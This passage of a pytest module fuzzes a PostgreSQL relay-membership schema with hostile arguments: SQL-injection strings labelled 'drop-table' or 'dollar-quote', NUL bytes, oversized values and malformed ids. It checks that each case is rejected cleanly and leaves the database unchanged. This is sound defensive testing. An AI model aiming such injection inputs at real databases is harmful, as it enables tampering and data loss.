        "unarchive_community",
    ):
        add(f, "p_community", missing, "BZNCM")
    add("archive_community", "p_community", [("archived", S.Z)], Noop([("unchanged",)]))
    add("unarchive_community", "p_community", [("live", S.C)], Noop([("unchanged",)]))
    add(
        "revoke_relay_invite",
        "p_community",
        [("archived-other-invite", S.Z)],
        Noop([("not_found",)]),
    )
    add("delete_community", "p_community", missing, Noop([("not_found",)]))
    add("relay_members", "p_community", missing, Noop([]))
    add("member_list", "p_community", missing, Noop([(None,)]))
    add("membership_events", "p_community", missing, Noop([]))
    add("relay_member", "p_community", missing, Noop([]))
    add("relay_member", "p_pubkey", [("stranger", S.NEWPK)], Noop([]))
    add("invite_branch", "p_community", missing, Noop([]))
    add("invite_branch", "p_pubkey", [("stranger", S.NEWPK), ("NULL", None)], Noop([]))
    # A REQ filter's values are data: what matches nothing finds nothing; too many is 22023.
    add("membership_events_newest", "p_community", missing, Noop([]))
    for a in ("p_ids", "p_members"):
        add(
            "membership_events_newest",
            a,
            [(label, [v]) for label, v in [*BAD_PUBKEYS[1:], *INJECTIONS]],
            Noop([]),
        )
        add("membership_events_newest", a, [("1001-values", ["a" * 64] * 1001)], "22023")
        nul("membership_events_newest", a, ["ab\x00"])
    add("membership_events_newest", "p_limit", [("negative", -1)], "22023")
    # A profile is a kind 0 event, checked and verified: anything else is 22023.
    add(
        "set_member_profile",
        "p_event",
        [("NULL", None), ("empty", ""), ("array", "[]"), ("huge", "{" * HUGE), *INJECTIONS],
        "22023",
    )
    nul("set_member_profile", "p_event", '{"content":"\x00"}')
    add("set_member_profile", "p_event", [("the-stored-one", S.PROFILE)], Noop([("older",)]))
    add("member_profiles", "p_community", missing, Noop([]))
    add(
        "member_profiles",
        "p_authors",
        [(label, [v]) for label, v in [*BAD_PUBKEYS[1:], *INJECTIONS]],
        Noop([]),
    )
    add("member_profiles", "p_authors", [("1001-values", ["a" * 64] * 1001)], "22023")
    nul("member_profiles", "p_authors", ["ab\x00"])
    add("member_profiles", "p_limit", [("negative", -1)], "22023")
    add("member_profiles", "p_ids", [(label, [v]) for label, v in INJECTIONS], Noop([]))
    add("member_profiles", "p_ids", [("1001-values", ["0" * 64] * 1001)], "22023")
    nul("member_profiles", "p_ids", ["ab\x00"])
    add("member_list_drift", "p_community", missing[1:], Noop([]))
    add("member_list_drift", "p_community", missing[:1], Noop([]))  # NULL: all, and all agree
    add("role_definitions", "p_community", missing, Noop([]))
    add("role_deletions", "p_community", missing, Noop([]))
    add("community_profile", "p_community", missing, Noop([]))
    add("banned_pubkeys", "p_community", missing, Noop([]))
    add("join_requests", "p_community", missing, Noop([]))
    add("invite_quotas", "p_community", missing, Noop([]))
    add("invites_left", "p_community", missing, Noop([(0,)]))
    add("invites_left", "p_pubkey", [("NULL", None), ("stranger", S.NEWPK)], Noop([(0,)]))
    for f in ("banned_events", "kind_rules", "blocked_ips", "method_assignees"):
        add(f, "p_community", missing, Noop([]))
    add("moderation_rules", "p_community", missing[1:], Noop([]))  # NULL: every community's
    for f, sig in SIGNATURES.items():
        for a, t, _ in sig:
            if t == "uuid":
                for label, value in not_uuid:
                    # PostgreSQL's own input error, raised before the function runs; its
                    # message quotes the input (see the module docstring).
                    cases.append(Case(f, a, label, value, "22P02", echo_ok=True))

    # Labels, policy versions, notes: too long or with control characters.
    add("add_relay_member", "p_added_by", BAD_LABELS, "22023")
    add("add_relay_members", "p_added_by", BAD_LABELS, "22023")
    add("create_relay_invite", "p_created_by", [("NULL", None), *BAD_LABELS], "22023")
    add("claim_relay_membership", "p_policy_version", BAD_LABELS, "22023")
    add("claim_relay_invite", "p_policy_version", BAD_LABELS, "22023")
    add("allowlist_add", "p_note", [("1001-chars", "n" * 1001), ("huge-100k", "n" * HUGE)], "22023")
    for f, a in [
        ("add_relay_member", "p_added_by"),
        ("add_relay_members", "p_added_by"),
        ("create_relay_invite", "p_created_by"),
        ("claim_relay_membership", "p_policy_version"),
        ("claim_relay_invite", "p_policy_version"),
        ("allowlist_add", "p_note"),
    ]:
        nul(f, a, "label\x00")

    # Profile, bans, join policy and requests.
    add("set_community_profile", "p_field", BAD_FIELDS, "22023")
    nul("set_community_profile", "p_field", "name\x00")
    # p_value is named by its field: "a name must be ...".
    cases += [
        Case("set_community_profile", "p_value", label, value, "22023", names="name")
        for label, value in BAD_NAMES
    ]
    nul("set_community_profile", "p_value", "name\x00")
    add("set_community_profile", "p_value", [("same-name", S.NAME)], Noop([("unchanged",)]))
    add("set_join_policy", "p_policy", BAD_POLICIES, "22023")
    nul("set_join_policy", "p_policy", "open\x00")
    add("set_join_policy", "p_policy", [("same-policy", "invite")], Noop([("unchanged",)]))
    for f, a in [
        ("ban_pubkey", "p_reason"),
        ("request_membership", "p_note"),
        ("reject_join_request", "p_reason"),
    ]:
        add(f, a, BAD_NOTES, "22023")
        nul(f, a, "note\x00")
    add("ban_pubkey", "p_banned_by", BAD_LABELS, "22023")
    add("approve_join_request", "p_approved_by", [("NULL", None), *BAD_LABELS], "22023")
    for f, a in [("ban_pubkey", "p_banned_by"), ("approve_join_request", "p_approved_by")]:
        nul(f, a, "label\x00")
    # Event ids: shaped like pubkeys, refused like them (22023, naming p_request_id).
    for f in ("request_membership", "approve_join_request", "reject_join_request"):
        add(f, "p_request_id", BAD_PUBKEYS, "22023")
        nul(f, "p_request_id")
    add("ban_pubkey", "p_pubkey", [("owner", S.OWNER)], Noop([("is_owner",)]))
    add("ban_pubkey", "p_pubkey", [("already-banned", S.BANNED)], Noop([("already_banned",)]))
    add("unban_pubkey", "p_pubkey", [("not-banned", S.NEWPK)], Noop([("not_banned",)]))
    add("request_membership", "p_pubkey", [("stranger", S.NEWPK)], Noop([("closed",)]))
    add("request_membership", "p_pubkey", [("member", S.MEMBER)], Noop([("already_member",)]))
    add("request_membership", "p_pubkey", [("banned", S.BANNED)], Noop([("banned",)]))
    for f in ("approve_join_request", "reject_join_request"):
        add(
            f,
            "p_request_id",
            [("unknown", S.NEWEVENT), ("hex-upper", H.upper())],
            Noop([("not_found",)]),
        )
    add("create_relay_invite", "p_code", [*BAD_CODES, ("live-code", S.CODE)], "BZINV")
    nul("create_relay_invite", "p_code", "codecode\x00")
    add("create_relay_invite", "p_sealed", BAD_SEALED, "22023")
    nul("create_relay_invite", "p_sealed", "sealed\x00")

    # Invite codes: any text that is not a code of this community is just 'invalid'.
    invalid = Noop([("invalid", None, None)])
    add(
        "claim_relay_invite",
        "p_code",
        [
            ("NULL", None),
            ("empty", ""),
            ("other-community", S.CODE2),
            ("trailing-space", S.CODE_SPACED),
            ("like-wildcard", "%"),
            ("underscore", "_" * 32),
            ("star", "*"),
            ("hex-32", H[:32]),
            ("non-ascii", "\u00e9" * 32),
            ("huge-100k", "c" * HUGE),
            *INJECTIONS,
        ],
        invalid,
    )
    nul("claim_relay_invite", "p_code")
    add(
        "revoke_relay_invite",
        "p_invite_id",
        [("NULL", None), ("unknown", S.UNKNOWN)],
        Noop([("not_found",)]),
    )
    add(
        "revoke_relay_invite",
        "p_invite_id",
        [("other-community", S.INVITE2)],
        Noop([("not_found",)]),
    )

    # Invite ranges.
    add(
        "create_relay_invite",
        "p_max_uses",
        [("0", 0), ("-1", -1), ("10001", 10_001), ("int-max", 2**31 - 1), ("int-min", -(2**31))],
        "BZINV",
    )
    add(
        "create_relay_invite",
        "p_ttl",
        [
            ("NULL", None),
            ("59-seconds", "59 seconds"),
            ("zero", "0"),
            ("negative", "-1 hour"),
            ("30-days-1-second", "30 days 1 second"),
            ("31-days", "31 days"),
            ("1-month-1-day", "1 mon 1 day"),
            ("1000-years", "1000 years"),
        ],
        "BZINV",
    )
    add("rotate_relay_key", "p_limit", [("0", 0), ("-1", -1), ("int-min", -(2**31))], "22023")
    add("set_invite_quota", "p_quota", [("-1", -1), ("int-min", -(2**31))], "22023")
    add("set_invite_quota", "p_quota", [("same-quota", 0)], Noop([("unchanged",)]))
    add("remove_relay_member", "p_with_branch", [("NULL", None)], "22023")
    for f in ("remove_relay_member", "ban_pubkey"):
        add(f, "p_spare_admins", [("NULL", None)], "22023")

    # Moderation behind the gate: event ids like request ids, kinds, addresses, methods.
    for f in ("ban_event", "unban_event"):
        add(f, "p_event_id", BAD_PUBKEYS, "22023")
        nul(f, "p_event_id")
    add("ban_event", "p_event_id", [("already-banned", S.BANNED_EVENT)], Noop([("already_banned",)]))
    add("unban_event", "p_event_id", [("unknown", S.NEWEVENT), ("hex-upper", H.upper())],
        Noop([("not_banned",)]))  # fmt: skip
    for f, a in [("ban_event", "p_reason"), ("block_ip", "p_reason")]:
        add(f, a, BAD_NOTES, "22023")
        nul(f, a, "note\x00")
    for f, a in [
        ("ban_event", "p_banned_by"),
        ("block_ip", "p_blocked_by"),
        ("assign_method", "p_assigned_by"),
    ]:
        add(f, a, BAD_LABELS, "22023")
        nul(f, a, "label\x00")
    for f in ("allow_kind", "disallow_kind", "clear_kind_rule"):
        add(f, "p_kind", BAD_KINDS, "22023")
    add("allow_kind", "p_kind", [("already-allowed", 1)], Noop([("unchanged",)]))
    add("disallow_kind", "p_kind", [("already-disallowed", 7)], Noop([("unchanged",)]))
    add("clear_kind_rule", "p_kind", [("never-ruled", 30023)], Noop([("unchanged",)]))
    for f in ("block_ip", "unblock_ip"):
        add(f, "p_address", [("NULL", None), ("bits-past-mask", "10.0.0.1/8"),
                             ("v6-bits-past-mask", "2001:db8::1/32")], "22023")  # fmt: skip
        for label, value in [("not-an-address", "relay.example.org"), INJECTIONS[0], ("empty", "")]:
            cases.append(Case(f, "p_address", label, value, "22P02", echo_ok=True))
    add("block_ip", "p_address", [("already-blocked", "192.0.2.1"), ("as-mapped-v6", "::ffff:192.0.2.1")],
        Noop([("already_blocked",)]))  # fmt: skip
    add("unblock_ip", "p_address", [("never-blocked", "198.51.100.1")], Noop([("not_blocked",)]))
    add("assign_method", "p_method", BAD_METHODS, "22023")
    # The HINT names the methods never assigned (no secret): not an echo of the value.
    cases += [
        Case("assign_method", "p_method", label, value, "22023", echo_ok=True)
        for label, value in NEVER_ASSIGNED
    ]
    add("unassign_method", "p_method", BAD_METHODS, "22023")
    for f in ("assign_method", "unassign_method"):
        nul(f, "p_method", "banevent\x00")
    add("assign_method", "p_method", [("already-assigned", "banevent")], Noop([("already_assigned",)]))
    add("assign_method", "p_pubkey", [("not-a-member", S.NEWPK)], Noop([("not_member",)]))
    add("unassign_method", "p_method", [("never-assignable", "setmemberrole")],
        Noop([("not_assigned",)]))  # fmt: skip
    add("unassign_method", "p_pubkey", [("stranger", S.NEWPK)], Noop([("not_assigned",)]))
    add(
        "remove_relay_member",
        "p_pubkey",
        [("owner", S.OWNER)],
        Noop([("is_owner",)]),
    )

    # insert_signed_events with nothing prepared (with something prepared: see below).
    add(
        "insert_signed_events",
        "p_ids",
        [
            ("NULL", None),
            ("one-id", [H]),
            ("huge-100001", [""] * 100_001),
            ("2-D", [[H], [H]]),
            *[(label, [v]) for label, v in INJECTIONS],
        ],
        "BZSTL",
    )
    add(
        "insert_signed_events",
        "p_sigs",
        [("NULL", None), ("one-sig", [H + H]), ("huge-100001", [""] * 100_001)],
        "BZSTL",
    )
    add("insert_signed_events", "p_ids", [("empty-arrays", [])], Noop([]))
    nul("insert_signed_events", "p_ids", [NUL])

    # The relay's shared state: an event id like a request id; a rate's scope, keys and bounds.
    add("accept_auth_event", "p_event_id", BAD_PUBKEYS, "22023")
    nul("accept_auth_event", "p_event_id")
    add("accept_auth_event", "p_fresh_until",
        [("NULL", None), ("years-ahead", "2999-01-01 00:00:00+00")], "22023")  # fmt: skip
    bad_scopes = [("NULL", None), ("empty", ""), ("uppercase", "Invite"), ("33-chars", "s" * 33),
                  ("huge-100k", "s" * HUGE), ("non-ascii", "invit\u00e9"), *INJECTIONS]  # fmt: skip
    bad_keys = [("NULL-array", None), ("empty-array", []), ("NULL-element", ["key", None]),
                ("201-chars", ["k" * 201]), ("9-keys", ["key"] * 9), ("huge-100k", ["k" * HUGE])]  # fmt: skip
    for f in ("take_rate", "rate_reached"):
        add(f, "p_scope", bad_scopes, "22023")
        nul(f, "p_scope", "invite\x00")
        add(f, "p_keys", bad_keys, "22023")
        nul(f, "p_keys", ["key\x00"])
        add(f, "p_limit", [("0", 0), ("1001", 1001), *BAD_KINDS[2:]], "22023")
        add(f, "p_seconds", [("0", 0), ("86401", 86401), *BAD_KINDS[2:]], "22023")
    # An injection string is a well-formed key: the world holds each at its limit.
    injected_keys = [(label, [v]) for label, v in INJECTIONS]
    add("take_rate", "p_keys", injected_keys, Noop([(False,)]))
    add("rate_reached", "p_keys", injected_keys, Noop([(True,)]))
    return cases


CASES = _cases()

# On a cluster the functions are the same text; what the cluster changes is where they run: a
# call goes to its community's worker with its arguments written into the forwarded query, and
# an error comes back from there. How an argument travels depends on its SQL type, not its name.
# So there each function gets its first case of each outcome, and for each type of argument it
# takes, the values that travel differently (NULL, empty, huge, non-ASCII) and the injections of
# each quoting class below once; every case runs on one server.
CLUSTER_INJECTIONS = {
    "drop-table", "dollar-quote", "lone-backslash", "backslash-quote", "E-string-x00",
    "unicode-quotes", "double-quote", "comment", "null-word", "array-literal",
}  # fmt: skip
ON_ONE_SERVER_ONLY = pytest.mark.single_server(
    "the same check on every node; the cluster runs each function's first case of each outcome"
    " and, for each type of argument, the values that travel differently and one injection per"
    " quoting class"
)
_INJECTION_LABELS = {label for label, _ in INJECTIONS}


def _sql_type(func: str, arg: str) -> str:
    """The SQL type of `arg` ('p_keys[1]': an element of the array argument p_keys)."""
    name, element = arg.split("[")[0], "[" in arg
    types = {n: t for n, t, _ in SIGNATURES.get(func, [])}
    sql_type = types.get(name, name)
    return f"{sql_type} element" if element else sql_type


def _cluster_cases(cases: list[Case]) -> set[str]:
    """The ids of the cases that run on a cluster too."""
    seen: set[tuple[str, ...]] = set()
    ids = set()
    for c in cases:
        if c.label in _INJECTION_LABELS:
            travels = c.label in CLUSTER_INJECTIONS
        else:
            travels = c.label in {"NULL", "empty", "non-ascii"} or c.label.startswith("huge")
        outcome = c.expect if isinstance(c.expect, str) else "answered"  # a Noop's rows vary
        kinds = [(c.func, "outcome", outcome)]
        if travels:
            kinds.append((c.func, _sql_type(c.func, c.arg), c.label))
        if not seen.issuperset(kinds):
            seen.update(kinds)
            ids.add(c.id)
    return ids


def _case_params(cases: list[Case]) -> list[Any]:
    on_cluster = _cluster_cases(cases)
    return [
        pytest.param(c, id=c.id, marks=[] if c.id in on_cluster else [ON_ONE_SERVER_ONLY])
        for c in cases
    ]


# The module's database and the valid values its cases use.


@dataclass
class World:
    url: str
    key: RelayKey
    signer: Signer
    values: dict[S, Any]
    committed_ids: list[str]  # the events of a committed transaction, in its order
    committed_sigs: list[str]


@pytest.fixture(scope="module")
def hostile_db(servers: list[str], template_db: str) -> Iterator[str]:
    """Like conftest's db_url, once for the module (a database per case would be slow)."""
    name = f"buzz_hostile_{os.getpid()}_{secrets.token_hex(3)}"
    with copy_of_template(servers, template_db, name) as url:
        yield url


@pytest.fixture(scope="module")
def world(hostile_db: str) -> Iterator[World]:
    key = RelayKey.generate()
    with Membership.connect(hostile_db, key) as m:
        member_key = RelayKey.generate()  # MEMBER signs their own profile (PROFILE)
        owner, member, admin = new_pubkey(), member_key.pubkey, new_pubkey()
        host = f"k{secrets.token_hex(4)}.hostile.example.org"
        c = m.create_community(host, owner).details["community_id"]
        m.add_relay_member(c, member)
        m.add_relay_member(c, admin, "admin")
        m.allowlist_add(c, new_pubkey(), "seed")
        invite = m.create_relay_invite(c, owner, max_uses=None)
        c2 = m.create_community(f"c2-{secrets.token_hex(4)}.hostile.example.org", owner)
        c2 = c2.details["community_id"]
        invite2 = m.create_relay_invite(c2, owner)
        committed = m.add_relay_member(c2, new_pubkey())
        # Roles: ROLE_HELD (the valid define_role values) held by MEMBER, ROLE_FREE held by
        # nobody, ROLE_GONE deleted (its kind 5 live), ROLE_C2 defined in C2 only.
        define = {n: v for n, _, v in SIGNATURES["define_role"][2:]}
        assert m.define_role(c, "moderator", *define.values()).outcome == "defined"
        assert m.assign_role(c, member, "moderator").outcome == "assigned"
        assert m.define_role(c, "helper", "Helpers", None, 0, INT_MIN).outcome == "defined"
        assert m.assign_role(c, admin, "helper").outcome == "assigned"  # and then not
        assert m.unassign_role(c, admin, "helper").outcome == "unassigned"
        assert m.define_role(c, "retired", "Retired").outcome == "defined"
        assert m.assign_role(c, admin, "retired").outcome == "assigned"
        assert m.delete_role(c, "retired").outcome == "deleted"
        assert m.define_role(c2, "c2-only", "Only in C2", None, 360, INT_MAX).outcome == "defined"
        z = m.create_community(f"z-{secrets.token_hex(4)}.hostile.example.org", new_pubkey())
        z = z.details["community_id"]
        m.add_relay_member(z, new_pubkey())
        m.define_role(z, "moderator", "Moderators")
        m.assign_role(z, m.relay_members(z)[0].pubkey, "moderator")
        assert m.archive_community(z) == "archived"
        name = "Hostile test"
        assert m.set_community_profile(c, "name", name) == "updated"
        banned = new_pubkey()
        assert m.ban_pubkey(c, banned, "seed").outcome == "banned"
        banned_event = secrets.token_hex(32)
        for moderation in (
            f"buzz.ban_event('{c}', '{banned_event}', 'seed')",
            f"buzz.allow_kind('{c}', 1)",
            f"buzz.disallow_kind('{c}', 7)",
            f"buzz.block_ip('{c}', '192.0.2.1')",
            f"buzz.assign_method('{c}', '{member}', 'banevent')",
        ):
            assert m.conn.execute(f"SELECT {moderation}").fetchone()[0] != "unchanged"
        # Each injection string a key at its limit (one hit in a window of a day, the valid
        # p_seconds: the module may run for minutes), so that take_rate's call with it, valid,
        # counts nothing, and rate_reached's says it is reached.
        for _, injection in INJECTIONS:
            assert m.conn.execute(
                "SELECT buzz.take_rate('invite', %s, 1, 86400)", ([injection],)
            ).fetchone() == (True,)
        profile_text = kind0(member_key, '{"name":"Hostile member"}')
        assert m.set_member_profile(c, profile_text) == "stored"
        assert m.member_list_drift() == []
    values = {
        S.C: c,
        S.C2: c2,
        S.Z: z,
        S.UNKNOWN: uuid.uuid4(),
        S.MEMBER: member,
        S.OWNER: owner,
        S.RELAY: key.pubkey,
        S.OTHER_KEY: RelayKey.generate().pubkey,
        S.CODE: invite.code,
        S.CODE_SPACED: invite.code + " ",
        S.INVITE: invite.invite_id,
        S.CODE2: invite2.code,
        S.INVITE2: invite2.invite_id,
        S.HOST: host,
        S.KELVIN_HOST: "\u212a" + host[1:],
        S.ROLE_HELD: "moderator",
        S.ROLE_FREE: "helper",
        S.ROLE_GONE: "retired",
        S.ROLE_C2: "c2-only",
        S.NAME: name,
        S.BANNED: banned,
        S.BANNED_EVENT: banned_event,
        S.PROFILE: profile_text,
    }
    yield World(
        hostile_db,
        key,
        Signer(key),
        values,
        [e["id"] for e in committed.events],
        [e["sig"] for e in committed.events],
    )


@pytest.fixture(scope="module")
def su(world: World) -> Iterator[psycopg.Connection]:
    """Superuser, autocommit: sees exactly what is committed."""
    with psycopg.connect(world.url, autocommit=True) as c:
        yield c


@pytest.fixture(scope="module")
def hc(world: World) -> Iterator[psycopg.Connection]:
    """The connection the hostile calls run on: autocommit off, one transaction per case."""
    with psycopg.connect(world.url, autocommit=False) as c:
        yield c


@pytest.fixture
def conn_rolled_back(hc: psycopg.Connection) -> Iterator[psycopg.Connection]:
    hc.rollback()
    yield hc
    hc.rollback()


@pytest.fixture(scope="module")
def writer(world: World) -> Iterator[Membership]:
    """The module's own writes around the cases (a connection kept: on a cluster a new one
    costs its coordinator and worker sessions' first calls)."""
    with Membership.connect(world.url, world.key) as m:
        yield m


def new_role_id() -> str:
    return f"r-{secrets.token_hex(6)}"


def resolve(value: Any, w: World) -> Any:
    if isinstance(value, S):
        if value is S.NEWPK:
            return new_pubkey()
        if value is S.NEWROLE:
            return new_role_id()
        if value is S.NEWEVENT:
            return secrets.token_hex(32)
        return _resolve_fixed(value, w)
    if isinstance(value, list):
        return [resolve(v, w) for v in value]
    return value


def _resolve_fixed(value: S, w: World) -> Any:
    if value is S.NEWHOST:
        return f"new-{secrets.token_hex(4)}.hostile.example.org"
    return w.values[value]


def call(cur: psycopg.Cursor, func: str, args: list[tuple[str, str, Any]]) -> list[tuple]:
    query = sql.SQL("SELECT * FROM buzz.{}({})").format(
        sql.Identifier(func),
        sql.SQL(", ").join(
            sql.SQL("{} => %s::{}").format(sql.Identifier(name), sql.SQL(sqltype))
            for name, sqltype, _ in args
        ),
    )
    return cur.execute(query, [v for _, _, v in args]).fetchall()


def args_for(case: Case, w: World) -> list[tuple[str, str, Any]]:
    base = case.arg.split("[")[0]
    out = []
    for name, sqltype, valid in SIGNATURES[case.func]:
        value = case.value if name == base else valid
        out.append((name, sqltype, resolve(value, w)))
    return out


# Snapshots: everything the database holds, as committed.


# Kept but unlogged: the counts behind the relay's rates (0010), not data.
UNLOGGED_KEPT = frozenset({"rate_windows"})


def _tables(su: psycopg.Connection) -> tuple[list[str], list[str], list[str]]:
    rows = su.execute(
        "SELECT c.relname, c.relkind, c.relpersistence FROM pg_catalog.pg_class c"
        " WHERE c.relnamespace = 'buzz_private'::regnamespace AND c.relkind IN ('r', 'S')"
        " ORDER BY c.relname"
    ).fetchall()
    # Scratch: per-transaction state (unlogged), empty between transactions. Kept: everything
    # else, all logged but UNLOGGED_KEPT (no unlogged copy of the lists is kept: member_list
    # builds them).
    scratch = [r[0] for r in rows if r[1] == "r" and r[0].startswith("tx_")]
    kept = [r[0] for r in rows if r[1] == "r" and not r[0].startswith("tx_")]
    assert all(r[2] == "u" for r in rows if r[0] in scratch), rows
    assert all(r[2] == ("u" if r[0] in UNLOGGED_KEPT else "p") for r in rows if r[0] in kept), rows
    sequences = [r[0] for r in rows if r[1] == "S"]
    return kept, scratch, sequences


def snapshot(su: psycopg.Connection) -> dict[str, Any]:
    kept, scratch, sequences = _tables(su)
    assert {"relay_members", "member_lists", "member_list_pieces", "communities"} <= set(kept)
    parts = [
        sql.SQL(
            "SELECT {name}, pg_catalog.count(*),"
            " pg_catalog.md5(coalesce(pg_catalog.string_agg(t::text, '|' ORDER BY t::text), ''))"
            " FROM buzz_private.{table} t"
        ).format(name=sql.Literal(t), table=sql.Identifier(t))
        for t in kept + scratch
    ]
    tables = {r[0]: (r[1], r[2]) for r in su.execute(sql.SQL(" UNION ALL ").join(parts))}
    for t in scratch:  # outside a transaction, the scratch tables are empty
        assert tables[t][0] == 0, t
    seqs = [
        sql.SQL("SELECT {name}, s.last_value, s.is_called FROM buzz_private.{seq} s").format(
            name=sql.Literal(s), seq=sql.Identifier(s)
        )
        for s in sequences
    ]
    lists = su.execute(
        "SELECT c.community_id, buzz.member_list(c.community_id)::text,"
        " ARRAY(SELECT d::text FROM buzz.role_definitions(c.community_id) d),"
        " ARRAY(SELECT d::text FROM buzz.role_deletions(c.community_id) d)"
        " FROM buzz_private.communities c ORDER BY c.community_id"
    ).fetchall()
    return {
        "tables": tables,
        "sequences": su.execute(sql.SQL(" UNION ALL ").join(seqs)).fetchall() if seqs else [],
        "lists": lists,
    }


def counts(snap: dict[str, Any]) -> dict[str, int]:
    return {t: v[0] for t, v in snap["tables"].items()}


# What an error must look like.

ARGUMENT_ERRORS = {"BZIPK", "BZIRL", "BZHST", "BZINV", "22023", "54000"}


def check_error(exc: psycopg.Error, case: Case, sent: Any) -> None:
    diag = exc.diag
    msg = diag.message_primary or ""
    assert exc.sqlstate == case.expect, (exc.sqlstate, msg)
    assert len(msg.split()) >= 3, msg  # a sentence, not a bare word
    if case.expect in ARGUMENT_ERRORS:
        # It names the argument (an array element by its subscript).
        assert (case.names or case.arg) in msg, msg
    elif case.expect in {"BZNCM", "BZARC", "BZSTL", "BZKEY"}:
        assert diag.message_hint, msg  # the message says what; the hint says what to do
    types = {name: sqltype for name, sqltype, _ in SIGNATURES[case.func]}
    # A community or invite id is no secret (BZNCM names the id it did not find).
    if not case.echo_ok and types[case.arg.split("[")[0]] != "uuid":
        text = " ".join(filter(None, [msg, diag.message_detail, diag.message_hint, diag.context]))
        for v in sent if isinstance(sent, list) else [sent]:
            if isinstance(v, str) and len(v) >= 8:
                assert v not in text, f"the message echoes the value: {text[:300]}"


def publish(conn: psycopg.Connection, signer: Signer) -> list[Any]:
    """Phase two as buzz_signer does it: prepare, check and sign, insert. The signed events."""
    rows = conn.execute(
        "SELECT community_id, id, kind, created_at, serialized"
        " FROM buzz.prepare_membership_events(%s)",
        (signer.pubkey,),
    ).fetchall()
    prepared = [PreparedEvent(str(r[0]), r[1], r[2], r[3], r[4]) for r in rows]
    sigs = signer.sign_all(prepared)
    return [
        r[0]
        for r in conn.execute(
            "SELECT * FROM buzz.insert_signed_events(%s::text[], %s::text[])",
            ([p.id for p in prepared], sigs),
        )
    ]


class LastCase:
    """The snapshot the last hostile case left, after finding it equal to the one it began
    with: the next case's first, while no other test has run in between. It saves one
    snapshot of the two per case (there are some 1,800; on a cluster each reads every shard)."""

    snapshot: dict[str, Any] | None = None


@pytest.fixture(autouse=True)
def _forget_the_last_case(request: pytest.FixtureRequest) -> None:
    if request.node.originalname != "test_hostile_input":
        LastCase.snapshot = None


@pytest.mark.parametrize("case", _case_params(CASES))
def test_hostile_input(case: Case, world: World, su, conn_rolled_back) -> None:
    conn = conn_rolled_back
    before = LastCase.snapshot or snapshot(su)
    LastCase.snapshot = None
    args = args_for(case, world)
    sent = {n: v for n, _, v in args}[case.arg.split("[")[0]]
    if case.expect == CLIENT:
        with pytest.raises(psycopg.DataError, match="NUL") as info:
            call(conn.cursor(), case.func, args)
        assert info.value.sqlstate is None  # raised by psycopg; the server saw nothing
        conn.rollback()
        TRIED["refused client-side (NUL byte)"] += 1
    elif isinstance(case.expect, Noop):
        assert call(conn.cursor(), case.func, args) == case.expect.rows
        assert publish(conn, world.signer) == []  # nothing to sign: nothing changed
        conn.commit()
        TRIED["answered an outcome, nothing changed"] += 1
    else:
        with pytest.raises(psycopg.Error) as info:
            call(conn.cursor(), case.func, args)
        conn.rollback()
        check_error(info.value, case, sent)
        TRIED[f"rejected ({case.expect})"] += 1
    after = snapshot(su)
    # Every table as it was: so is what member_list_drift() reads, and it found no drift when
    # the world was made (world), nor does it after the module (test_zy_no_drift_anywhere).
    assert after == before
    LastCase.snapshot = after


# Stored verbatim: labels, policy versions and notes are data.

STORED_ARGS = {
    "add_relay_member.p_added_by": "SELECT added_by FROM buzz_private.relay_members"
    " WHERE community_id = %(c)s AND pubkey = %(pk)s",
    "add_relay_members.p_added_by": "SELECT added_by FROM buzz_private.relay_members"
    " WHERE community_id = %(c)s AND pubkey = ANY(%(pks)s) GROUP BY added_by",
    "create_relay_invite.p_created_by": "SELECT created_by FROM buzz_private.relay_invites"
    " WHERE invite_id = %(invite)s",
    "claim_relay_membership.p_policy_version": "SELECT policy_version"
    " FROM buzz_private.policy_acceptances WHERE community_id = %(c)s AND pubkey = %(pk)s",
    "claim_relay_invite.p_policy_version": "SELECT policy_version"
    " FROM buzz_private.policy_acceptances WHERE community_id = %(c)s AND pubkey = %(pk)s",
    "allowlist_add.p_note": "SELECT note FROM buzz_private.relay_allowlist"
    " WHERE community_id = %(c)s AND pubkey = %(pk)s",
    # Role definitions are data too, and each lands in its signed 33534 as given (below).
    "define_role.p_label": "SELECT label FROM buzz_private.roles"
    " WHERE community_id = %(c)s AND role_id = %(role)s",
    "define_role.p_description": "SELECT description FROM buzz_private.roles"
    " WHERE community_id = %(c)s AND role_id = %(role)s",
    "define_role.p_color": "SELECT color FROM buzz_private.roles"
    " WHERE community_id = %(c)s AND role_id = %(role)s",
    "define_role.p_order": "SELECT sort_order FROM buzz_private.roles"
    " WHERE community_id = %(c)s AND role_id = %(role)s",
    # Profile, bans and requests (the stored cases' community takes requests).
    "set_community_profile.p_value": "SELECT name FROM buzz_private.community_profiles"
    " WHERE community_id = %(c)s",
    "create_relay_invite.p_sealed": "SELECT sealed FROM buzz.relay_invites(%(c)s)"
    " WHERE invite_id = %(invite)s",
    "ban_pubkey.p_reason": "SELECT reason FROM buzz_private.banned_pubkeys"
    " WHERE community_id = %(c)s AND pubkey = %(pk)s",
    "ban_pubkey.p_banned_by": "SELECT banned_by FROM buzz_private.banned_pubkeys"
    " WHERE community_id = %(c)s AND pubkey = %(pk)s",
    "request_membership.p_note": "SELECT note FROM buzz.join_requests(%(c)s) WHERE pubkey = %(pk)s",
    "reject_join_request.p_reason": "SELECT rejection_reason FROM buzz_private.join_requests"
    " WHERE community_id = %(c)s AND request_id = %(request)s",
    "approve_join_request.p_approved_by": "SELECT added_by FROM buzz_private.relay_members"
    " WHERE community_id = %(c)s AND pubkey = %(pk)s",
    # Moderation behind the gate: reasons and who acted.
    "ban_event.p_reason": "SELECT reason FROM buzz.banned_events(%(c)s)",
    "ban_event.p_banned_by": "SELECT banned_by FROM buzz.banned_events(%(c)s)",
    "block_ip.p_reason": "SELECT reason FROM buzz.blocked_ips(%(c)s)",
    "block_ip.p_blocked_by": "SELECT blocked_by FROM buzz.blocked_ips(%(c)s)",
    "assign_method.p_assigned_by": "SELECT assigned_by FROM buzz.method_assignees(%(c)s)",
}
ROLE_TAGS = {  # the 33534 tag of each define_role argument
    "p_label": "label",
    "p_description": "description",
    "p_color": "color",
    "p_order": "order",
}
ROLE_STORED: dict[str, list[tuple[str, Any]]] = {
    "define_role.p_label": [*GOOD_LABELS, ("1-char", "x")],
    "define_role.p_description": [
        *GOOD_LABELS,
        ("500-chars", "d" * 500),
        ("500-emoji", "\U0001f642" * 500),
        ("json-escapes", '"quoted" \\ back/slash'),
    ],
    "define_role.p_color": [("0", 0), ("360", 360), ("NULL", None)],
    "define_role.p_order": [("int-max", INT_MAX), ("int-min", INT_MIN), ("0", 0), ("-1", -1)],
}
NOTES_TOO = [("newline-tab", "line one\nline\ttwo"), ("escape", "\x1b[31m"), ("1000", "n" * 1000)]
